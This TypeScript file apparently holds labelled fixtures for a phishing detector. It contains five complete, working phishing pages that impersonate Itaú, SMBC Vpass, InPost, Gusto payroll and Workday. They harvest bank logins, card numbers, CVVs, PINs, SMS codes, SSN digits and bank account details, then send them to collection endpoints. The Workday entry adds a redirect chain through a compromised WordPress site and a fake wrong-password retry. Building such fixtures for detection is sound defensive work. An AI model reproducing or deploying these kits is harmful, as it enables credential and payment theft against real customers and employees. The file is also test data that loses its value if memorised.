import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { analytics, b64, css, doc, img, js, json, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-phish-itau-cadastro-ptbr
{
  id: 'h-phish-itau-cadastro-ptbr',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://itau.atualizacao-seguranca.online/acesso/?cliente=pf&ref=sms',
  routes: {
    'itau.atualizacao-seguranca.online/acesso/': htmlRoute(doc({
      lang: 'pt-BR',
      title: 'Itaú | Atualização Cadastral',
      css: `*{box-sizing:border-box}body{margin:0;font-family:Arial,sans-serif;background:#ec7000}.wrap{max-width:380px;margin:0 auto;background:#fff;min-height:100vh;padding:24px}.logo{width:56px;height:56px;background:#003399;color:#ffcc00;font-weight:bold;display:flex;align-items:center;justify-content:center;border-radius:8px;font-size:20px}h2{color:#333;font-size:19px}p{color:#555;font-size:14px}input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px;font-size:15px}button{width:100%;background:#ec7000;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px;font-weight:bold}.step{display:none}.step.on{display:block}small{color:#888}`,
      body: `<div class="wrap"><div class="logo">itaú</div>
<div class="step on" id="s1"><h2>Seu dispositivo de segurança expirou</h2><p>Para continuar usando o app e o Internet Banking, atualize seu cadastro. O processo leva menos de 2 minutos.</p>
<input id="ag" placeholder="Agência" maxlength="4" inputmode="numeric"><input id="cc" placeholder="Conta com dígito" maxlength="7" inputmode="numeric"><input id="cpf" placeholder="CPF" maxlength="14" inputmode="numeric">
<button onclick="nx(1)">Continuar</button></div>
<div class="step" id="s2"><h2>Senha eletrônica</h2><p>Digite sua senha de 6 dígitos do app.</p><input id="se" type="password" maxlength="6" inputmode="numeric"><button onclick="nx(2)">Continuar</button></div>
<div class="step" id="s3"><h2>Cartão de crédito vinculado</h2><p>Confirme os dados do cartão para validar o novo dispositivo.</p>
<input id="cn" placeholder="Número do cartão" maxlength="19" inputmode="numeric"><input id="cv" placeholder="Validade (MM/AA)" maxlength="5"><input id="cs" placeholder="CVV" maxlength="4" inputmode="numeric"><input id="sc" type="password" placeholder="Senha do cartão (4 dígitos)" maxlength="4"><button onclick="nx(3)">Validar</button></div>
<div class="step" id="s4"><h2>Código iToken</h2><p>Informe o código de 6 dígitos enviado por SMS para o seu celular cadastrado.</p><input id="tk" maxlength="6" inputmode="numeric"><button onclick="nx(4)">Confirmar</button></div>
<div class="step" id="s5"><h2>Tudo certo!</h2><p>Seu cadastro foi atualizado. Aguarde o contato de nossa central em até 24h.</p></div>
<p><small>Itaú Unibanco S.A. CNPJ 60.701.190/0001-04 · Ambiente seguro</small></p></div>
<script>
var D={};function v(i){return document.getElementById(i).value}
function nx(n){var map={1:['ag','cc','cpf'],2:['se'],3:['cn','cv','cs','sc'],4:['tk']};map[n].forEach(function(k){D[k]=v(k)});
var x=new XMLHttpRequest();x.open('POST','/acesso/api/salvar.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('etapa='+n+'&d='+encodeURIComponent(btoa(JSON.stringify(D))));
document.getElementById('s'+n).className='step';document.getElementById('s'+(n+1)).className='step on';if(n==4)setTimeout(function(){location='https://www.itau.com.br'},3000)}
document.getElementById('cpf').addEventListener('input',function(){var d=this.value.replace(/\\D/g,'').slice(0,11);this.value=d.replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d{1,2})$/,'$1-$2')});
</script>`,
    })),
    'itau.atualizacao-seguranca.online/acesso/api/salvar.php': text('ok'),
  },
},
  // h-phish-smbc-vpass-jp
{
  id: 'h-phish-smbc-vpass-jp',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://vpass-smbc-card.jp.net/vpass/login/',
  body: doc({
    lang: 'ja',
    title: 'Vpassログイン｜三井住友カード',
    css: `body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;background:#f2f5f3;color:#222}.g{background:#004831;color:#fff;padding:12px 20px;font-weight:bold}.g small{font-weight:normal;margin-left:10px;color:#cde}.c{max-width:460px;margin:30px auto;background:#fff;padding:26px;border-top:4px solid #004831}.al{background:#fff7e0;border:1px solid #f0c040;padding:10px;font-size:13px;line-height:1.6}dl dt{margin-top:14px;font-size:13px;font-weight:bold}dl dd{margin:4px 0}input{width:100%;padding:10px;box-sizing:border-box;border:1px solid #aaa}.b{margin-top:20px;background:#00703c;color:#fff;border:0;width:100%;padding:14px;font-size:16px}.row{display:flex;gap:8px}`,
    body: `<div class="g">三井住友カード <small>Vpass</small></div>
<div class="c">
<p class="al">【重要】お客様のカードに第三者による不正利用の可能性がある取引を検知いたしました。ご本人様確認のため、以下の情報をご入力ください。確認が取れない場合、カードのご利用を制限させていただきます。</p>
<form id="vf" method="post" action="/vpass/login/confirm.php">
<dl><dt>ID</dt><dd><input name="id" required></dd><dt>パスワード</dt><dd><input name="pw" type="password" required></dd>
<dt>カード番号</dt><dd><input name="card" maxlength="19" inputmode="numeric" required></dd>
<dt>有効期限</dt><dd class="row"><select name="mm"><option>01</option><option>02</option><option>03</option><option>04</option><option>05</option><option>06</option><option>07</option><option>08</option><option>09</option><option>10</option><option>11</option><option>12</option></select>月 / <select name="yy"><option>26</option><option>27</option><option>28</option><option>29</option><option>30</option><option>31</option></select>年</dd>
<dt>セキュリティコード</dt><dd><input name="cvv" maxlength="4" inputmode="numeric" required></dd>
<dt>生年月日</dt><dd><input name="birth" placeholder="例：19800101" maxlength="8"></dd>
<dt>暗証番号（4桁）</dt><dd><input name="pin4" type="password" maxlength="4" inputmode="numeric"></dd></dl>
<button class="b">次へ</button></form>
<p style="font-size:11px;color:#666;margin-top:20px">Copyright © Sumitomo Mitsui Card Co., Ltd.</p></div>`,
  }),
  routes: {
    'vpass-smbc-card.jp.net/vpass/login/confirm.php': htmlRoute(doc({ lang: 'ja', title: 'ワンタイムパスワード', body: '<div style="max-width:420px;margin:40px auto;font-family:sans-serif"><h3>ワンタイムパスワード認証</h3><p>ご登録の携帯電話番号にSMSで送信されたワンタイムパスワードを入力してください。</p><form method="post" action="done.php"><input name="otp" maxlength="6"><button>認証</button></form></div>' })),
  },
},
  // h-phish-pko-inpost-blik-pl
{
  id: 'h-phish-pko-inpost-blik-pl',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://inpost-paczka.pl-doplata.shop/p/PL8841920377',
  body: doc({
    lang: 'pl',
    title: 'InPost – Dopłata do przesyłki',
    css: `body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#f5f5f5}.hd{background:#ffcd00;padding:14px 20px;font-weight:900;font-size:22px;color:#1d1d1b}.box{max-width:440px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}.trk{display:flex;justify-content:space-between;font-size:14px;border-bottom:1px solid #eee;padding:6px 0}.amt{font-size:28px;font-weight:bold;color:#1d1d1b}input{width:100%;padding:11px;margin:6px 0 10px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}.pay{display:flex;gap:10px}.pay label{flex:1;border:2px solid #ddd;border-radius:6px;padding:10px;text-align:center;cursor:pointer}.pay input{width:auto}button{width:100%;background:#1d1d1b;color:#ffcd00;padding:13px;border:0;border-radius:4px;font-weight:bold;font-size:16px}.blk{display:none}`,
    body: `<div class="hd">InPost</div>
<div class="box">
<h2>Twoja paczka czeka w sortowni</h2>
<p>Przesyłka nie mogła zostać dostarczona do Paczkomatu® z powodu niedopłaty za gabaryt. Uiść dopłatę, aby przesyłka została wydana w ciągu 24 godzin.</p>
<div class="trk"><span>Numer przesyłki</span><b>PL8841920377</b></div><div class="trk"><span>Status</span><b style="color:#d40">Wstrzymana</b></div><div class="trk"><span>Dopłata</span><span class="amt">2,99 zł</span></div>
<form id="pf" method="post" action="/p/pay.php">
<input name="imie" placeholder="Imię i nazwisko" required><input name="adres" placeholder="Adres" required><input name="tel" placeholder="Numer telefonu" required>
<div class="pay"><label><input type="radio" name="m" value="card" checked onchange="sw()"> Karta</label><label><input type="radio" name="m" value="blik" onchange="sw()"> BLIK</label></div>
<div id="card"><input name="cc" placeholder="Numer karty" maxlength="19"><input name="exp" placeholder="MM/RR" maxlength="5"><input name="cvc" placeholder="CVC" maxlength="3"></div>
<div id="blik" class="blk"><input name="blik" placeholder="Kod BLIK (6 cyfr)" maxlength="6" inputmode="numeric"></div>
<button>Zapłać 2,99 zł</button></form>
<p style="font-size:11px;color:#888">InPost S.A. ul. Pana Tadeusza 4, 30-727 Kraków · Płatności obsługuje PayU</p></div>
<script>function sw(){var b=document.querySelector('input[name=m]:checked').value=='blik';document.getElementById('blik').style.display=b?'block':'none';document.getElementById('card').style.display=b?'none':'block'}</script>`,
  }),
  routes: {
    'inpost-paczka.pl-doplata.shop/p/pay.php': htmlRoute(doc({ lang: 'pl', title: 'Weryfikacja 3D Secure', body: '<div style="font-family:Arial;max-width:380px;margin:40px auto"><h3>Potwierdź płatność</h3><p>Wpisz kod SMS otrzymany z banku.</p><form method="post" action="/p/sms.php"><input name="sms" maxlength="8"><button>Potwierdź</button></form></div>' })),
  },
},
  // h-phish-gusto-direct-deposit
{
  id: 'h-phish-gusto-direct-deposit',
  label: 'phishing',
  kind: 'payroll-hr',
  url: 'https://app.gusto-payroll.employee-center.net/login?next=/employee/direct_deposit',
  body: doc({
    title: 'Sign in | Gusto',
    css: `body{margin:0;background:#f8f5f1;font-family:"Centra No2",Helvetica,Arial,sans-serif;color:#1c1c1c}.nv{padding:22px 40px;font-size:28px;font-weight:700;color:#f45d48}.cd{max-width:420px;margin:30px auto;background:#fff;padding:34px;border-radius:8px;box-shadow:0 2px 6px #0001}label{font-size:14px;display:block;margin:14px 0 5px}input{width:100%;padding:11px;border:1px solid #bbb;border-radius:6px;box-sizing:border-box}button{width:100%;margin-top:20px;padding:12px;background:#0a8080;color:#fff;border:0;border-radius:6px;font-size:16px}.note{background:#fff4d6;padding:10px;border-radius:6px;font-size:13px}.x{display:none}`,
    body: `<div class="nv">gusto</div>
<div class="cd">
<div id="p1"><p class="note">Your employer has requested that all employees re-confirm their direct deposit details before the next payroll run on <b id="pd"></b>.</p>
<h2>Sign in</h2><form id="f1"><label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required><button>Sign in</button></form><p style="font-size:13px"><a href="#">Forgot password?</a></p></div>
<div id="p2" class="x"><h2>Confirm direct deposit</h2><form id="f2">
<label>Legal name</label><input name="name" required><label>Last 4 of SSN</label><input name="ssn4" maxlength="4" required>
<label>Bank routing number</label><input name="routing" maxlength="9" required><label>Account number</label><input name="account" required>
<label>Account type</label><select name="type"><option>Checking</option><option>Savings</option></select>
<label>Verification code sent to your phone</label><input name="code" maxlength="6">
<button>Save and continue</button></form></div>
<div id="p3" class="x"><h2>All set</h2><p>Your payment details were confirmed. You can close this window.</p></div>
</div>
<script>
document.getElementById('pd').textContent=new Date(Date.now()+3*864e5).toDateString();
var hook='/cdn-cgi/l/wh';function go(f,n){var o={};new FormData(f).forEach(function(v,k){o[k]=v});o.step=n;navigator.sendBeacon(hook,new Blob([JSON.stringify(o)],{type:'text/plain'}));document.getElementById('p'+n).className='x';document.getElementById('p'+(n+1)).className=''}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();go(this,1)};document.getElementById('f2').onsubmit=function(e){e.preventDefault();go(this,2)};
</script>`,
  }),
  routes: { 'app.gusto-payroll.employee-center.net/cdn-cgi/l/wh': { status: 204, headers: {}, body: '' } },
},
  // h-phish-workday-hr-redirect-chain
{
  id: 'h-phish-workday-hr-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://email.mg.benefits-notice.com/c/eJyNkM1uhCAUhZ9G9',
  routes: {
    'email.mg.benefits-notice.com/c/eJyNkM1uhCAUhZ9G9': redirectRoute(302, 'https://www.lakeshoreorthodontics.com/wp-content/uploads/2024/03/hr/index.html?e=ZW1wbG95ZWVAY29ycC5jb20='),
    'www.lakeshoreorthodontics.com/wp-content/uploads/2024/03/hr/index.html': htmlRoute(`<html><head><meta http-equiv="refresh" content="0;url=https://wd5-myworkday.hr-benefits-enroll.com/ess/login.htmld"><script>var e=location.search.split('e=')[1]||'';location.replace('https://wd5-myworkday.hr-benefits-enroll.com/ess/login.htmld#'+e)</script></head><body>Loading...</body></html>`),
    'wd5-myworkday.hr-benefits-enroll.com/ess/login.htmld': htmlRoute(doc({
      title: 'Workday',
      css: `body{margin:0;background:#f0f1f2;font-family:Roboto,Arial,sans-serif}.w{max-width:400px;margin:70px auto;background:#fff;border-radius:8px;padding:34px;box-shadow:0 1px 3px #0003}.lg{color:#0875e1;font-size:30px;font-weight:bold;text-align:center}.lg i{color:#f5a623;font-style:normal}h3{text-align:center;font-weight:400;color:#333}label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #a0a0a0;border-radius:4px;box-sizing:border-box}button{width:100%;margin-top:18px;background:#0875e1;color:#fff;border:0;border-radius:20px;padding:11px;font-size:15px}.msg{font-size:13px;background:#e8f2fc;border-radius:4px;padding:10px}`,
      body: `<div class="w"><div class="lg">workday<i>.</i></div><h3>Open Enrollment 2027</h3><p class="msg">Benefits elections for 2027 close on Friday. Sign in with your company credentials to review your plan changes and salary adjustment letter.</p>
<form id="wd"><label>Username / Email</label><input id="u" required><label>Password</label><input id="p" type="password" required><button>Sign In</button></form>
<p style="font-size:12px;text-align:center;color:#666"><a href="#">Forgot Password?</a> · © 2026 Workday, Inc.</p></div>
<script>
var h=location.hash.slice(1);try{if(h)document.getElementById('u').value=atob(h)}catch(e){}
var n=0;document.getElementById('wd').onsubmit=function(ev){ev.preventDefault();n++;var b=new FormData();b.append('u',document.getElementById('u').value);b.append('p',document.getElementById('p').value);b.append('try',n);fetch('https://wd5-myworkday.hr-benefits-enroll.com/ess/next.php',{method:'POST',body:b});if(n<2){document.getElementById('p').value='';alert('Your password is incorrect. Please try again.')}else{location='https://www.workday.com/'}};
</script>`,
    })),
    'wd5-myworkday.hr-benefits-enroll.com/ess/next.php': text('1'),
  },
},
];
